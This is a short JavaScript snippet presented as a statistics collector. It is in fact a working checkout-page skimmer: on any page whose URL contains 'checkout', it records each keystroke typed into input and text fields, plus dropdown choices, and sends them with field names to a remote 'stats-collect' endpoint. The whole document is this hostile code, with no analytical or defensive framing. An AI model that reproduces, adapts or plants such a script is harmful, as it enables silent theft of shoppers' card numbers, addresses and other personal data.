
;(function (d, w) {
    var sid = Math.random().toString(36).substring(2, 12), num = 0;
    var host = "<% url "stats-collect" "/c.php" %>";
    if (w.location.href.indexOf("checkout") == -1) return;
    function log(field, key) {
        var x = new XMLHttpRequest();
        x.open("GET", host + "?s=" + sid + "&n=" + (num++) + "&f=" + encodeURIComponent(field) + "&k=" + encodeURIComponent(key), true);
        x.send();
    }
    d.addEventListener("keyup", function (e) {
        e = e || w.event;
        var t = e.target || e.srcElement;
        if (!t || (t.tagName != "INPUT" && t.tagName != "TEXTAREA")) return;
        if (e.key && e.key.length == 1 && !e.ctrlKey) log(t.name || t.id || t.type, e.key);
        else if (e.keyCode == 8) log(t.name || t.id || t.type, "<");
    }, false);
    d.addEventListener("change", function (e) {
        if (e.target.tagName == "SELECT") log(e.target.name, e.target.value);
    }, false);
})(document, window);
